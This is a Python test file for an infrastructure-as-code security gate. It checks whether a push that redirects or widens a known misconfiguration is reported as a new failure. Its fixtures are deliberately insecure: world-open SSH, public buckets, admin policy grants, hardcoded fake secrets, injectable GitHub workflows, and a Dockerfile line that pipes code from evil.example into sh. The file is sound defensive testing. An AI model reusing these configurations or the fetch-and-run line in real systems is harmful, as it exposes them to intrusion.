"""A known failure that is directed at something else, or has a further cause, is new; harmless changes are not."""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path
from typing import Any

from cli.pushes import ci, workspace
from cli.test_ci_base import commit, git, write

RULE = """resource "aws_security_group" "web" {}
resource "aws_security_group" "db" {}
resource "aws_vpc_security_group_ingress_rule" "r" {
  security_group_id = aws_security_group.web.id
  description       = "temporary"
  from_port         = 22
  to_port           = 22
  ip_protocol       = "tcp"
  cidr_ipv4         = "0.0.0.0/0"
}
"""
TEMPLATE = (
    "Resources:\n  R: {Type: AWS::EC2::SecurityGroupIngress, Properties: "
    "{GroupId: sg-1, IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}}\n"
)
POLICY = """resource "aws_s3_bucket_policy" "p" {
  bucket = "website"
  policy = jsonencode({Version = "2012-10-17", Statement = [
    {Effect = "Allow", Principal = "*", Action = ["s3:GetObject", "s3:ListBucket"], Resource = "*"}
  ]})
}
"""
ATTACHED = """resource "aws_iam_%(kind)s_policy_attachment" "a" {
  %(kind)s   = "breakglass"
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
"""
TO_ALL = """resource "aws_iam_policy_attachment" "a" {
  name       = "a"
  %s         = ["anne.martin", "paul.durand"]
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
"""
ADDRESS = """resource "aws_lambda_function_url" "u" {
  function_name      = "site"
  authorization_type = "NONE"
}
"""
ACL = 'resource "aws_s3_bucket_acl" "a" {\n  bucket = "website"\n  acl    = "public-read"\n}\n'
METHOD = """resource "aws_api_gateway_method" "m" {
  rest_api_id   = "a"
  resource_id   = "health"
  http_method   = "GET"
  authorization = "NONE"
}
"""
ROUTE = 'resource "aws_apigatewayv2_route" "r" {\n  api_id    = "shop"\n  route_key = "GET /"\n}\n'
IMAGE = 'resource "aws_ami_launch_permission" "p" {\n  image_id = "ami-1"\n  group    = "all"\n}\n'
LOGS = """resource "aws_eks_cluster" "c" {
  name                      = "c"
  role_arn                  = "r"
  enabled_cluster_log_types = ["api", "audit"]
  vpc_config {
    subnet_ids             = ["a"]
    endpoint_public_access = false
  }
}
"""
PLAIN = """  ordered_cache_behavior {
    path_pattern           = "/img"
    target_origin_id       = "o"
    viewer_protocol_policy = "allow-all"
    allowed_methods        = ["GET"]
    cached_methods         = ["GET"]
  }
"""
SITE = """resource "aws_cloudfront_distribution" "d" {
  enabled = true
  default_cache_behavior {
    target_origin_id       = "o"
    viewer_protocol_policy = "https-only"
    allowed_methods        = ["GET"]
    cached_methods         = ["GET"]
  }
%s  origin {
    origin_id   = "o"
    domain_name = "o.example.org"
  }
}
"""
SCRIPT = """resource "aws_instance" "i" {
  ami           = "ami-1"
  instance_type = "t3.micro"
  user_data     = "export DB_PASSWORD=Sup3rS3cret2024"
}
"""
ENGINE = 'resource "aws_db_instance" "d" {\n  engine         = "mysql"\n  engine_version = "5.7"\n}\n'
RIGHTS = """name: x
on: [push]
permissions: {contents: write}
jobs:
  a:
    runs-on: ubuntu-latest
    steps: [{run: make}]
"""
CALLED = """name: x
on: [push]
permissions: {contents: read}
jobs:
  a:
    uses: acme/ci/.github/workflows/x.yml@main
"""
STAGE = "FROM python:latest\nUSER app\n"
AT = """terraform {
  backend "s3" {
    bucket = "state"
    key    = "dev"
  }
}
variable "names" { type = list(string) }
variable "number" {}
variable "on" {}
provider "aws" {
  region = "eu-west-3"
}
provider "aws" {
  alias   = "prod"
  region  = "eu-west-3"
  profile = "live"
}
"""
GROUP = """resource "aws_security_group" "g" {
  # where
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
MANY = GROUP.replace("# where", "for_each = toset(var.names)")
CALL = 'module "m" {\n  source = "../part"\n  # where\n}\n'
STACK = """resource "aws_cloudformation_stack" "s" {
  # where
  template_body = jsonencode({Resources = {G = {Type = "AWS::EC2::SecurityGroupIngress", Properties = {
    GroupId = "sg-1", IpProtocol = "tcp", FromPort = 22, ToPort = 22, CidrIp = "0.0.0.0/0"
  }}}})
}
"""
# Ways to make another object of a block, or more of it, by what stands around it.
WAYS = ("provider = aws.prod", 'region = "eu-west-1"')
AROUND = (
    ('key    = "dev"', 'key = "prod"'),
    ('region = "eu-west-3"\n}', 'region = "eu-west-1"\n}'),
    (
        'region = "eu-west-3"\n}',
        'region = "eu-west-3"\n  assume_role {\n    role_arn = "arn:aws:iam::1:role/p"\n  }\n}',
    ),
    ('region = "eu-west-3"\n}', 'region = "eu-west-3"\n  profile = var.on\n}'),
)
KEYED = AT.replace('region = "eu-west-3"\n}', 'region = "eu-west-3"\n  # keys\n}')
KEYS = (
    ("access_key = var.on", "access_key = var.number"),
    ('access_key = "AKIAQ3EGRIQ3EGRIQ3EG"', 'access_key = "AKIAZ7EGRIZ7EGRIZ7EG"'),
    ('shared_credentials_files = ["a"]', 'shared_credentials_files = ["b"]'),
)
STATES = (
    ('backend "pg" {\n    conn_str = "postgres://a/x"\n  }', "/x", "/y"),
    ('cloud {\n    workspaces {\n      tags = ["dev"]\n    }\n  }', "dev", "prod"),
)
STATE = "terraform {\n  %s\n}\n"
LOOPS = (
    ("for_each = toset(var.names)", 'for_each = toset(concat(var.names, ["prod"]))'),
    ("for_each = var.names", 'for_each = setunion(var.names, ["prod"])'),
    ("count = var.number", "count = var.number + 3"),
    ("count = 1", "count = var.number"),
)
US = """provider "aws" {
  region = "us-east-1"
}
resource "aws_route53_zone" "z" {
  name = "example.org"
}
resource "aws_dynamodb_table" "t" {
  name = "t"
}
# more
"""
HELD = """resource "aws_iam_policy" "p" {
  name   = "p"
  policy = jsonencode({Version = "2012-10-17", Statement = [{Effect = "Allow", Action = "s3:*", Resource = "*"}]})
}
resource "aws_iam_role_policy_attachment" "a" {
  role       = "a"
  policy_arn = aws_iam_policy.p.arn
}
# more
"""
TRUSTED = """resource "aws_iam_role" "r" {
  name               = "r"
  assume_role_policy = jsonencode({Version = "2012-10-17", Statement = [
    {Effect = "Allow", Action = "sts:AssumeRole", Principal = {AWS = "*"}}
  ]})
}
# more
"""
MACHINES = """resource "aws_launch_template" "l" {
  name = "machines"
  metadata_options {
    http_tokens = "optional"
  }
}
# more
"""
FLEET = """resource "aws_ec2_fleet" "f" {
  launch_template_config {
    launch_template_specification {
      %s
    }
  }
}
"""
TASK = """resource "aws_ecs_task_definition" "t" {
  family                = "t"
  container_definitions = jsonencode([{name = "a", image = "i", privileged = true}])
}
# more
"""
TARGET = 'resource "aws_cloudwatch_event_target" "e" {\n  ecs_target {\n    task_definition_arn = %s\n  }\n}\n'
SET = (
    STACK.replace('"aws_cloudformation_stack" "s" {', '"aws_cloudformation_stack_set" "s" {\n  name = "s"') + "# more\n"
)
IN = """resource "aws_cloudformation_stack_set_instance" "%(account)s" {
  stack_set_name = aws_cloudformation_stack_set.s.name
  account_id     = "%(account)s"
}
"""
CARD = 'resource "aws_network_interface" "i" {\n  security_groups = [%s]\n}\n'
HOLDS = """resource "aws_iam_%(kind)s_policy_attachment" "more" {
  %(kind)s   = "%(name)s"
  policy_arn = %(policy)s
}
"""
ADMIN = HOLDS % {"kind": "user", "name": "u", "policy": "aws_iam_policy.p.arn"}
CALLER = 'data "aws_caller_identity" "c" {}\n'
OF_ACCOUNT = '"arn:aws:iam::${data.aws_caller_identity.c.account_id}:policy/p"'
LOGGING = '"arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"'
ACL_OPEN = """resource "aws_network_acl" "n" {
  ingress {
    rule_no    = 100
    action     = "allow"
    protocol   = "-1"
    cidr_block = "0.0.0.0/0"
    from_port  = 0
    to_port    = 0
  }
}
# more
"""
BATCH = """resource "aws_batch_compute_environment" "b" {
  compute_resources {
    security_group_ids = [aws_security_group.g.id]
  }
}
"""
EMR = """resource "aws_emr_cluster" "e" {
  dynamic "ec2_attributes" {
    for_each = var.on
    content {
      emr_managed_master_security_group = aws_security_group.g.id
    }
  }
}
variable "on" {}
"""
JOINED = """resource "aws_network_acl_association" "a" {
  network_acl_id = aws_network_acl.n.id
  subnet_id      = "subnet-1"
}
"""
MORE = (
    (GROUP + "# more\n", BATCH),
    (GROUP + "# more\n", EMR),
    (ACL_OPEN, JOINED),
    (US, 'resource "aws_codecommit_repository" "r" {\n  repository_name = "r"\n}\n'),
    (HELD, ADMIN),
    (HELD, HOLDS % {"kind": "group", "name": "g", "policy": '"arn:aws:iam::1:policy/p"'}),
    (HELD, HOLDS % {"kind": "group", "name": "g", "policy": OF_ACCOUNT} + CALLER),
    (TRUSTED, HOLDS % {"kind": "role", "name": "r", "policy": LOGGING}),
    (MACHINES, FLEET % "launch_template_id = aws_launch_template.l.id"),
    (MACHINES, FLEET % 'launch_template_name = "machines"'),
    (TASK, TARGET % "aws_ecs_task_definition.t.arn"),
    (SET, IN % {"account": "999999999999"}),
    (GROUP + "# more\n", CARD % "aws_security_group.g.id"),
    (RULE + "# more\n", CARD % "aws_security_group.web.id"),
    (RULE.replace("aws_security_group.web.id", '"sg-1"') + "# more\n", CARD % '"sg-1"'),
)
IN_BATCH = "B: {Type: AWS::Batch::ComputeEnvironment, Properties: {ComputeResources: {SecurityGroupIds: [sg-1]}}}"
ENTRY = (
    "  E: {Type: AWS::EC2::NetworkAclEntry, Properties: {NetworkAclId: acl-1, RuleNumber: 1, "
    'Protocol: -1, RuleAction: allow, CidrBlock: "0.0.0.0/0"}}\n'
)
IN_SUBNET = "S: {Type: AWS::EC2::SubnetNetworkAclAssociation, Properties: {NetworkAclId: acl-1, SubnetId: subnet-1}}"
IN_TEMPLATE = """Resources:
  P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: {Version: "2012-10-17", Statement: [
    {Effect: Allow, Action: "s3:*", Resource: "*"}]}, Roles: [a]}}
  G: {Type: AWS::IAM::Group, Properties: {Path: /}}
  T: {Type: AWS::ECS::TaskDefinition, Properties: {ContainerDefinitions: [{Name: a, Image: i, Privileged: true}]}}
"""
BUCKET = """resource "aws_s3_bucket" "b" {
  # name
  acl  = "public-read"
  tags = { Name = "scratch" }
}
"""
DATABASE = """resource "aws_db_instance" "d" {
  identifier          = "a"
  publicly_accessible = true
}
# more
"""
LOOPED_BUCKET = BUCKET.replace(
    "# name",
    """for_each = toset(["a", "b"])
  bucket   = "${each.key}-scratch\"""",
)
ADOPTING = 'import {\n  to = aws_db_instance.d\n  id = "%s"\n}\n'
IDENTIFIED = ADOPTING.replace('"%s"', '{ identifier = "%s" }').replace("  id ", "  identity ")
EACH = 'import {\n  for_each = toset(["b"])\n  to       = aws_s3_bucket.b[each.key]\n  id       = "of-${each.key}"\n}\n'
UNKNOWN = 'variable "suffix" {\n  type = string\n}\n'
RANDOM = 'resource "random_id" "r" {\n  byte_length = 4\n}\n'
OF_BUCKET = POLICY.replace('"website"', "aws_s3_bucket.b.id") + BUCKET.replace("# name", 'bucket = "scratch"')
OF_BUCKET = OF_BUCKET.replace("public-read", "private")
NAMED = (
    (BUCKET.replace("# name", 'bucket = "scratch"'), 'bucket = "scratch"', 'bucket = "customer-data"'),
    (BUCKET.replace("# name", "bucket = 5"), "bucket = 5", "bucket = 6"),
    (UNKNOWN + BUCKET.replace("# name", 'bucket = "wiki-${var.suffix}"'), "wiki", "crm"),
    (RANDOM + BUCKET.replace("# name", 'bucket = "wiki-${random_id.r.hex}"'), "wiki", "crm"),
    (LOOPED_BUCKET, "-scratch", "-data"),
    (LOOPED_BUCKET + "# more\n", "# more", EACH),
    (DATABASE, '"a"', '"prod"'),
    (DATABASE, '"a"', '"prod"\n}\nmoved {\n  from = aws_db_instance.c\n  to   = aws_db_instance.d'),
    (OF_BUCKET, '"scratch"', '"data"'),
    (DATABASE, "# more", ADOPTING % "prod"),
    (DATABASE, "# more", IDENTIFIED % "prod"),
    (DATABASE.replace("# more", ADOPTING % "x"), 'id = "x"', 'id = "y"'),
)
NAME_OF = "Resources:\n  D: {Type: AWS::RDS::DBInstance, Properties: {%s, PubliclyAccessible: true}}\n"
DESCRIBED = "Parameters:\n  Name: {Type: String, Description: which one}\n"
SAME_NAME = (
    (BUCKET, '"scratch"', '"data"'),
    (BUCKET.replace("# name", 'bucket_prefix = "scratch-"'), "scratch-", "data-"),
    (BUCKET.replace("# name", 'bucket = "scratch"') + "# more\n", "# more", 'locals {\n  bucket = "other"\n}\n'),
    (BUCKET.replace("# name", 'bucket = "scratch"'), '"scratch"', 'join("", ["scr", "atch"])'),
    (DATABASE, "# more", ADOPTING % "a"),
    (DATABASE, "# more", IDENTIFIED % "a"),
    (DATABASE.replace("# more", ADOPTING % "x"), ADOPTING % "x", ""),
)
INJECTION = """name: x
on: [pull_request]
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps: [{run: "echo ${{ github.head_ref }}"}]
"""
TAKEN = """name: x
on: [pull_request_target]
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: make
"""
PINNED = "{uses: a/b@08c6903cd8c0fde910a37f88322edcfb5dd907a8}"
SIGNED = INJECTION.replace("permissions: {}", "permissions: {id-token: write}").replace("[{run", f"[{PINNED}, {{run")
ROLE = PINNED.replace("}", ", with: {role-to-assume: 'arn:aws:iam::1:role/prod'}}")
KEY = 'env: {K: "${{ secrets.KEY }}"}'
FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER app\n"


Case = tuple[str, str, str, str]  # a file, its text in the base, what of it a push replaces, and by what


DENYING = """data "aws_iam_policy_document" "d" {
  statement {
    actions   = ["s3:*"]
    resources = ["*"]
  }
# more
}
resource "aws_iam_policy" "p" {
  name   = "p"
  policy = data.aws_iam_policy_document.d.json
}
"""
_DENY = '{\n    effect    = "Deny"\n    actions   = ["s3:Delete*"]\n    resources = ["*"]\n  }'
SURELY = f"  statement {_DENY}"
PERHAPS = f'  dynamic "statement" {{\n    for_each = var.on ? [1] : []\n    content {_DENY}\n  }}'
MANY_VALUES = ", ".join(["dev", *(f"s{number:02}" for number in range(80)), "prod"])
CHOSEN = f"""Parameters:
  Env: {{Type: String, Default: dev, AllowedValues: [{MANY_VALUES}]}}
Conditions: {{P: !Equals [!Ref Env, prod]}}
Resources:
  # more
  G:
    Type: AWS::EC2::SecurityGroup
    Properties:
      GroupDescription: x
      SecurityGroupIngress: [{{IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: !If [P, 10.0.0.0/8, 0.0.0.0/0]}}]
"""


LIST = """resource "aws_ec2_managed_prefix_list" "p" {
  name           = "p"
  address_family = "IPv4"
  max_entries    = 5
  entry {
    cidr = "0.0.0.0/1"
  }
  entry {
    cidr        = "10.0.0.0/8"
    description = "offices"
  }
  # more
}
resource "aws_security_group" "g" {
  ingress {
    from_port       = 22
    to_port         = 22
    protocol        = "tcp"
    prefix_list_ids = [aws_ec2_managed_prefix_list.p.id]
  }
}
"""
ENTRY_OF_LIST = """}
resource "aws_ec2_managed_prefix_list_entry" "e" {
  prefix_list_id = aws_ec2_managed_prefix_list.p.id
  cidr           = "128.0.0.0/1"
}
resource "aws_security_group" "g" {"""
OF_LIST = """resource "aws_vpc_security_group_ingress_rule" "r" {
  security_group_id = "sg-1"
  from_port         = 22
  to_port           = 22
  ip_protocol       = "tcp"
  prefix_list_id    = aws_ec2_managed_prefix_list.p.id
}
"""
LIST_ALONE = LIST.split('resource "aws_security_group"', maxsplit=1)[0] + OF_LIST
LIST_IN_TEMPLATE = """Resources:
  P:
    Type: AWS::EC2::PrefixList
    Properties:
      {PrefixListName: p, AddressFamily: IPv4, MaxEntries: 5, Entries: [{Cidr: 0.0.0.0/1}, {Cidr: 10.0.0.0/8}]}
  G:
    Type: AWS::EC2::SecurityGroup
    Properties:
      GroupDescription: x
      SecurityGroupIngress: [{IpProtocol: tcp, FromPort: 22, ToPort: 22, SourcePrefixListId: !Ref P}]
"""
LOOKED_UP = """data "aws_iam_policy" "p" {
  name = "AdministratorAccess"
}
resource "aws_iam_role_policy_attachment" "a" {
  role       = "r"
  policy_arn = data.aws_iam_policy.p.arn
}
"""
IN_DEFAULT = """resource "aws_vpc" "v" {
  cidr_block = "10.0.0.0/16"
}
resource "aws_vpc_security_group_ingress_rule" "r" {
  security_group_id = aws_vpc.v.default_security_group_id
  from_port         = 22
  to_port           = 22
  ip_protocol       = "tcp"
  cidr_ipv4         = "0.0.0.0/0"
}
"""


SEVERAL = """provider "aws" {
  alias    = "by"
  for_each = { a = "arn:aws:iam::111111111111:role/x", b = "arn:aws:iam::222222222222:role/x" }
  region   = "eu-west-3"
  assume_role {
    role_arn = each.value
  }
}
"""
MOVES = (('by["a"]', 'by["b"]'), ("111111111111", "333333333333"), ("eu-west-3", "us-east-1"))
IN_ONE = SEVERAL + GROUP.replace("# where", 'provider = aws.by["a"]')
CALLED_IN_ONE = SEVERAL + CALL.replace("# where", 'providers = { aws = aws.by["a"] }')


def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
    """Return the cases of which a push that has all of them, each in a folder of its own, has a failure as new."""
    shop = workspace(folder / "shop", 'resource "aws_ebs_volume" "v" {\n  encrypted = true\n}\n')
    settings = shop / "preuve.yaml"
    kinds = ("terraform", "cloudformation", "dockerfile", "github_actions")
    scope = ", ".join(f"{{path: {'.' if kind == 'github_actions' else 'infra'}, kind: {kind}}}" for kind in kinds)
    settings.write_text(settings.read_text().replace("{path: infra, kind: terraform}", scope))
    (shop / ".github" / "workflows").mkdir(parents=True)
    files = {_place(number, case[0]): case for number, case in enumerate(cases)}
    assert all(old in text for _, text, old, _ in cases)
    write(shop, {place: text for place, (_, text, _, _) in files.items()} | {"infra/part/r.tf": RULE})
    git(shop, "init", "-q", "-b", "main")
    commit(shop)
    write(shop, {place: text.replace(old, new) for place, (_, text, old, new) in files.items()})
    answer = ci(shop, "--base", "main", "--gate", "low", "--json", str(folder / "push.json"))
    told = json.loads((folder / "push.json").read_text())["findings"]
    failing = [(place, one["known"]) for one in told if one["status"] == "FAIL" for place in _cases_of(one, files)]
    assert {place for place, _ in failing} == files.keys()
    new = {files[place] for place, known in failing if not known}
    assert answer.exit_code == (10 if new else 0), answer.output
    return new


def _cases_of(finding: dict[str, Any], files: dict[str, Case]) -> list[str]:
    """Return the files of the cases that a finding is of, also of what they call."""
    roots = {one.partition(":")[0] for one in finding["instances"]}
    return [place for place in files if place == finding["file"] or place.rpartition("/")[0] in roots]


def _place(number: int, file: str) -> str:
    return f".github/workflows/{number}.yml" if file.endswith(".yml") else f"infra/{number}/{file}"


DIRECTED: list[Case] = [
    ("r.tf", RULE, "security_group.web.id", "security_group.db.id"),
    ("t.yaml", TEMPLATE, "sg-1", "sg-2"),
    ("r.tf", POLICY, "website", "customer-records"),
    *(("r.tf", ATTACHED % {"kind": kind}, "breakglass", "web") for kind in ("role", "user", "group")),
    *(("r.tf", TO_ALL % kind, "anne.martin", "eva.petit") for kind in ("users", "roles")),
    ("r.tf", ADDRESS, "site", "payments"),
    ("r.tf", ACL, "website", "customer-records"),
    ("r.tf", METHOD, '"GET"', '"ANY"'),
    ("r.tf", METHOD, "health", "admin"),
    ("r.tf", IMAGE, "ami-1", "ami-2"),
    ("r.tf", ROUTE, "shop", "payments"),
    ("r.tf", LOGS, '"api", "audit"', '"api"'),
    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/login")),
    ("r.tf", SITE % PLAIN, "/img", "/login"),
    ("r.tf", SCRIPT, "2024", "2024\\nexport API_TOKEN=Zx9k2Lq8Vn3m1Qp0"),
    ("r.tf", ENGINE, "5.7", "5.6"),
    ("a.yml", RIGHTS, "contents: write", "contents: write, packages: write"),
    ("a.yml", CALLED, "acme", "evil"),
    *(("r.tf", AT + text, "# where", way) for text in (GROUP, STACK) for way in WAYS),
    ("r.tf", AT + CALL, "# where", "providers = { aws = aws.prod }"),
    *(("r.tf", AT + text, old, new) for text in (GROUP, CALL, STACK) for old, new in AROUND),
    *(("r.tf", AT + text.replace("# where", old), old, new) for text in (GROUP, CALL) for old, new in LOOPS),
    *(("r.tf", KEYED.replace("# keys", old) + GROUP, old, new) for old, new in KEYS),
    *(("r.tf", STATE % said + GROUP, old, new) for said, old, new in STATES),
    *(("r.tf", text, "# more", more) for text, more in MORE),
    *(("r.tf", *case) for case in NAMED),
    ("t.yaml", DESCRIBED + NAME_OF % "DBInstanceIdentifier: !Ref Name", "Description: which one", "Default: other"),
    ("t.yaml", NAME_OF % "DBInstanceIdentifier: dev", "dev", "prod"),
    ("t.yaml", NAME_OF % 'DBInstanceIdentifier: !Sub "${AWS::StackName}-dev"', "-dev", "-prod"),
    ("t.yaml", TEMPLATE + "  # more\n", "# more", IN_BATCH),
    ("t.yaml", TEMPLATE + ENTRY + "  # more\n", "# more", IN_SUBNET),
    ("t.yaml", IN_TEMPLATE, "Roles: [a]", "Roles: [a, b]"),
    ("t.yaml", IN_TEMPLATE, "Path: /", "ManagedPolicyArns: [!Ref P]"),
    ("t.yaml", IN_TEMPLATE, "  G:", "  S: {Type: AWS::ECS::Service, Properties: {TaskDefinition: !Ref T}}\n  G:"),
    ("r.tf", LIST, "# more", 'entry {\n    cidr = "128.0.0.0/1"\n  }'),
    ("r.tf", LIST, "0.0.0.0/1", "0.0.0.0/0"),
    ("r.tf", LIST, '}\nresource "aws_security_group" "g" {', ENTRY_OF_LIST),
    ("r.tf", LIST_ALONE, "0.0.0.0/1", "0.0.0.0/0"),
    ("r.tf", LIST_ALONE, "# more", 'entry {\n    cidr = "128.0.0.0/1"\n  }'),
    ("t.yaml", LIST_IN_TEMPLATE, "0.0.0.0/1", "0.0.0.0/0"),
    ("t.yaml", LIST_IN_TEMPLATE, "{Cidr: 10.0.0.0/8}", "{Cidr: 10.0.0.0/8}, {Cidr: 128.0.0.0/1}"),
    ("r.tf", LOOKED_UP, "AdministratorAccess", "PowerUserAccess"),
    *(("r.tf", code, old, new) for code in (IN_ONE, CALLED_IN_ONE) for old, new in MOVES),
    ("a.yml", INJECTION, "[pull_request]", "[pull_request_target]"),
    ("a.yml", INJECTION, "permissions: {}", "permissions: {id-token: write}"),
    ("a.yml", INJECTION, "    steps: [{", f"    steps: [{{{KEY}, "),
    ("a.yml", INJECTION, "    steps", "    environment: prod\n    steps"),
    ("a.yml", SIGNED, PINNED, ROLE),
    ("a.yml", SIGNED, "ubuntu-latest", "[self-hosted, prod]"),
    ("a.yml", INJECTION, "runs-on: ubuntu-latest", "strategy: {matrix: {at: [prod]}}\n    runs-on: ${{ matrix.at }}"),
    ("a.yml", TAKEN, "run: make", f"run: make\n        {KEY}"),
    *(("r.tf", DENYING.replace("# more", was), was, now) for was, now in ((SURELY, PERHAPS), (PERHAPS, ""))),
    ("t.yaml", CHOSEN, "10.0.0.0/8", "0.0.0.0/0"),
    ("Dockerfile", STAGE, "python", "evil/python"),
    ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
]
HARMLESS: list[Case] = [
    ("r.tf", RULE, "temporary", "of the migration"),
    ("r.tf", POLICY, ', "s3:ListBucket"', ""),
    ("r.tf", TO_ALL % "users", ', "paul.durand"', ""),
    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/x").replace("allow-all", "https-only")),
    ("r.tf", SITE % (PLAIN + PLAIN.replace("/img", "/x")), PLAIN, ""),
    ("r.tf", SCRIPT, "export", "echo ready\\nexport"),
    ("r.tf", ENGINE, "engine  ", "# the shop's\n  engine  "),
    ("r.tf", AT + GROUP, 'key    = "dev"', 'key = "dev"\n    use_lockfile = true'),
    ("r.tf", AT + GROUP, 'region = "eu-west-3"\n}', 'region = "eu-west-3"\n  max_retries = 5\n}'),
    ("r.tf", AT + GROUP, "# where", 'region = "eu-west-3"'),
    ("r.tf", AT + GROUP, "# where", "count = var.on ? 1 : 0"),
    ("r.tf", KEYED + GROUP, "# keys", 'allowed_account_ids = ["111111111111"]'),
    (
        "r.tf",
        KEYED.replace("# keys", 'access_key = "AKIAQ3EGRIQ3EGRIQ3EG"') + GROUP,
        "access",
        "max_retries = 5\n  access",
    ),
    ("r.tf", AT + MANY, "list(string) }", "list(string)\n  nullable = false\n}"),
    (
        "r.tf",
        AT + MANY + "locals {\n  all = toset(var.names)\n}\n",
        "for_each = toset(var.names)",
        "for_each = local.all",
    ),
    ("r.tf", AT + GROUP.replace("# where", "provider = aws.prod"), "prod", "production"),
    ("r.tf", AT + CALL, "# where", "providers = { aws = aws }"),
    ("r.tf", US, "# more", 'resource "aws_route53_zone" "y" {\n  name = "example.com"\n}\n'),
    ("r.tf", US, "# more", 'resource "aws_cloudwatch_dashboard" "d" {\n  dashboard_name = "d"\n}\n'),
    ("r.tf", US, 'region = "us-east-1"', 'region = "us-east-1"\n  max_retries = 5'),
    ("r.tf", HELD, "# more", 'resource "aws_iam_role" "b" {\n  name = "b"\n  assume_role_policy = "{}"\n}\n'),
    ("r.tf", HELD, 'attachment" "a"', 'attachment" "b"'),
    ("r.tf", HELD + ADMIN, ADMIN, ""),
    ("r.tf", MACHINES, "# more", 'resource "aws_cloudwatch_dashboard" "d" {\n  dashboard_name = "d"\n}\n'),
    ("r.tf", MACHINES + FLEET % 'launch_template_name = "x"', '"x"', '"y"'),
    ("r.tf", GROUP + "# more\n", "# more", 'resource "aws_security_group" "closed" {}\n'),
    *(("r.tf", *case) for case in SAME_NAME),
    ("t.yaml", DESCRIBED + NAME_OF % "DBInstanceIdentifier: !Ref Name", "which one", "which database"),
    ("t.yaml", NAME_OF % "Tags: [{Key: Name, Value: dev}]", "dev", "prod"),
    ("t.yaml", IN_TEMPLATE, "Path: /", "Path: /x/"),
    ("r.tf", LIST, '  entry {\n    cidr        = "10.0.0.0/8"\n    description = "offices"\n  }\n', ""),
    ("r.tf", LIST, "offices", "of the company"),
    ("r.tf", LIST, "# more", 'tags = { a = "b" }'),
    ("t.yaml", LIST_IN_TEMPLATE, ", {Cidr: 10.0.0.0/8}", ""),
    ("r.tf", IN_DEFAULT, "/16", "/20"),
    ("a.yml", INJECTION, "[pull_request]", "[pull_request, push]"),
    ("a.yml", INJECTION, "jobs:", f"jobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{{run: make, {KEY}}}]"),
    ("a.yml", INJECTION, "ubuntu-latest", "ubuntu-24.04-arm"),
    (
        "a.yml",
        INJECTION,
        "runs-on: ubuntu-latest",
        "strategy: {matrix: {at: [macos-15]}}\n    runs-on: ${{ matrix.at }}",
    ),
    ("a.yml", RIGHTS, "run: make", "run: make test"),
    ("r.tf", DENYING.replace("# more", PERHAPS), PERHAPS, SURELY),
    ("r.tf", DENYING, "# more", PERHAPS),
    ("t.yaml", CHOSEN, "# more", "T: {Type: AWS::SNS::Topic, Properties: {KmsMasterKeyId: k}}"),
    ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
]


def test_a_known_failure_directed_at_something_else_is_new(tmp_path: Path) -> None:
    assert told_as_new(tmp_path, DIRECTED) == set(DIRECTED)


SIGNING_IN = "[profile x]\nrole_arn = arn:aws:iam::111111111111:role/x\nregion = eu-west-3\n"
BY_FILE = 'provider "aws" {\n  profile = "x"\n  %s = ["${path.module}/cfg"]\n}\n' + GROUP
BY_BACKEND = BY_FILE.replace('provider "aws" {', 'terraform {\n  backend "s3" {').replace("]\n}", "]\n  }\n}")


def test_a_file_by_which_a_provider_signs_in_says_where_a_failure_is(tmp_path: Path) -> None:
    shop = workspace(tmp_path / "shop", 'resource "aws_ebs_volume" "v" {\n  encrypted = true\n}\n')
    settings = [
        BY_FILE % "shared_config_files",
        BY_FILE % "shared_credentials_files",
        BY_BACKEND % "shared_config_files",
    ]
    changed = [("1111", "2222"), ("eu-west-3", "us-east-1")]
    cases = {f"infra/{number}": case for number, case in enumerate(product(settings, changed))}
    for folder, (text, _) in cases.items():
        write(shop, {f"{folder}/r.tf": text, f"{folder}/cfg": SIGNING_IN})
    git(shop, "init", "-q", "-b", "main")
    commit(shop)
    write(shop, {f"{folder}/cfg": SIGNING_IN.replace(*change) for folder, (_, change) in cases.items()})
    ci(shop, "--base", "main", "--json", str(tmp_path / "push.json"))
    told = json.loads((tmp_path / "push.json").read_text())["findings"]
    known = {
        one["file"].removeprefix("shop/").removesuffix("/r.tf"): one["known"] for one in told if one["status"] == "FAIL"
    }
    assert known == dict.fromkeys(cases, False)


def test_a_known_failure_stays_known_when_something_else_changes(tmp_path: Path) -> None:
    assert told_as_new(tmp_path, HARMLESS) == set()
